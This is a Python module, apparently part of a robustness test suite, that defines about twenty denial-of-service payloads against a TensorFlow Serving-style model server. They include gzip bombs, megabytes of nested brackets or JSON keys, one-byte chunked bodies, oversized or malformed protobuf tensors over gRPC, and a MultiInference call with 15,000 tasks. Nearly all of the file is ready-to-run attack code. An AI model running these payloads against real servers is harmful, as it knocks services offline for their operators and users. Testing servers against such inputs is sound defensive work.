"""Requests that cost a server much more than they cost their sender."""

import contextlib
import gzip
import http.client
import json
import socket
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

import grpc

MODEL = "attacked"
PREDICT = "PredictionService/Predict"
MIB = 1024 * 1024

Attack = Callable[[], Any]
Make = Callable[[str, str, str], Attack]
"""Takes the REST address, the gRPC address and a key (empty for none); returns what sends one request."""


def field(number: int, content: bytes) -> bytes:
    """Return a protobuf field of bytes."""
    size, length = len(content), b""
    while size >= 0x80:
        length += bytes([size & 0x7F | 0x80])
        size >>= 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + content


def tensor(content: bytes, signature_name: str = "serving_default") -> bytes:
    """Return a PredictRequest with a TensorProto as its input ``text``."""
    spec = field(1, MODEL.encode()) + field(3, signature_name.encode())
    return field(1, spec) + field(2, field(1, b"text") + field(2, content))


def strings(count: int, text: bytes) -> bytes:
    """Return a TensorProto of equal strings."""
    sizes = b""
    left = count
    while left >= 0x80:
        sizes += bytes([left & 0x7F | 0x80])
        left >>= 7
    shape = field(2, b"\x08" + sizes + bytes([left]))
    return b"\x08\x07" + field(2, shape) + field(8, text) * count


def over_grpc(method: str, message: bytes, timeout: float = 30) -> Make:
    """Return an attack with one message."""

    def make(rest: str, address: str, key: str) -> Attack:
        del rest
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        channel = grpc.insecure_channel(address, options=options)
        call = channel.unary_unary(f"/{method if '.' in method else 'tensorflow.serving.' + method}")
        metadata = [("x-api-key", key)] if key else []

        def send() -> None:
            with contextlib.suppress(grpc.RpcError):
                call(message, timeout=timeout, metadata=metadata)

        return send

    return make


def over_rest(verb: str, body: bytes, headers: Mapping[str, str] = {}) -> Make:
    """Return an attack with one body."""

    def make(address: str, grpc_address: str, key: str) -> Attack:
        del grpc_address
        return partial(_post, address, f"/v1/models/{MODEL}:{verb}", body, {**headers, "x-api-key": key})

    return make


def _post(address: str, path: str, body: bytes, headers: Mapping[str, str]) -> None:
    connection = http.client.HTTPConnection(address, timeout=60)
    with contextlib.suppress(OSError, http.client.HTTPException):
        connection.request("POST", path, body, dict(headers))
        connection.getresponse().read()
    connection.close()


def tiny_chunks(address: str, grpc_address: str, key: str) -> Attack:
    """Return an attack with a body in chunks of one byte."""
    del grpc_address
    head = f"POST /v1/models/{MODEL}:predict HTTP/1.1\r\nHost: {address}\r\nX-API-Key: {key}\r\n"
    sent = head.encode() + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 43_000 + b"0\r\n\r\n"
    host, _, port = address.rpartition(":")

    def send() -> None:
        with contextlib.suppress(OSError), socket.create_connection((host, int(port)), timeout=60) as connection:
            connection.sendall(sent)
            connection.recv(4096)

    return send


def instances(body: bytes) -> bytes:
    """Return a predict request with these elements."""
    return b'{"instances": [' + body + b"]}"


ZIPPED = {"content-encoding": "gzip"}
LONG = b"the film was a warm and funny story about people who love the cinema and one another, and " * 8
MANY = json.dumps({"instances": [LONG.decode()] * 2000}).encode()

ATTACKS: dict[str, Make] = {
    "8 MiB of empty examples": over_grpc("PredictionService/Classify", field(2, field(1, b"\x0a\x00" * 4 * MIB))),
    "8 MiB of empty strings": over_grpc(PREDICT, tensor(b"\x42\x00" * 4 * MIB)),
    "16 MiB of unknown fields": over_grpc(PREDICT, b"\x78\x01" * 8 * MIB),
    "30 MiB of small numbers": over_grpc(PREDICT, tensor(field(10, b"\x01" * 30 * MIB))),
    "30 MiB tensor with a lying shape": over_grpc(PREDICT, tensor(b"\x08\x01" + field(4, b"\x01" * 30 * MIB))),
    "MultiInference with 15,000 tasks": over_grpc(
        "PredictionService/MultiInference",
        b"".join(field(1, field(1, field(1, b"m") + field(3, b"signature%06d" % n))) for n in range(15000)),
    ),
    "a context for each of 200,000 examples": over_grpc(
        "PredictionService/Classify",
        field(1, field(1, MODEL.encode())) + field(2, field(2, b"\x0a\x00" * 200_000 + field(2, field(9, b"x" * MIB)))),
    ),
    "8 MiB to health": over_grpc("grpc.health.v1.Health/Check", b"\x78\x01" * 4 * MIB),
    "8 MiB to GetModelStatus": over_grpc("ModelService/GetModelStatus", b"\x78\x01" * 4 * MIB),
    "8 MiB to GetModelMetadata": over_grpc("PredictionService/GetModelMetadata", b"\x12\x00" * 4 * MIB),
    "10 KB of gzip: [],[],...": over_rest("predict", gzip.compress(instances(b"[]," * 3_300_000 + b"1")), ZIPPED),
    "10 KB of gzip, to classify": over_rest(
        "classify", gzip.compress(b'{"examples": [' + b"{}," * 3_300_000 + b"{}]}"), ZIPPED
    ),
    "250,000 lists, which are allowed": over_rest("predict", instances(b"[]," * 125_000 + b"1")),
    "8 MiB of keys": over_rest("predict", b"{" + b",".join(b'"%d":1' % n for n in range(800_000)) + b"}"),
    "30 MiB of long numbers": over_rest("predict", instances(b",".join([b"9" * 4000] * 8000))),
    "32 MiB of escaped quotes": over_rest("predict", instances(b'"' + rb"\",[{" * 6 * MIB + b'"')),
    "8 MiB of opening brackets": over_rest("predict", b"[" * 8 * MIB),
    "1 MiB of gzip members": over_rest("predict", gzip.compress(b"", 1) * 50_000, ZIPPED),
    "256 KiB of tiny chunks": tiny_chunks,
    "2,000 long texts, REST": over_rest("predict", MANY),
    "2,000 long texts, gRPC, given up after 50 ms": over_grpc(PREDICT, tensor(strings(2000, LONG)), timeout=0.05),
    "one text of 8 MiB": over_grpc(PREDICT, tensor(strings(1, b"word " * (8 * MIB // 5)))),
}
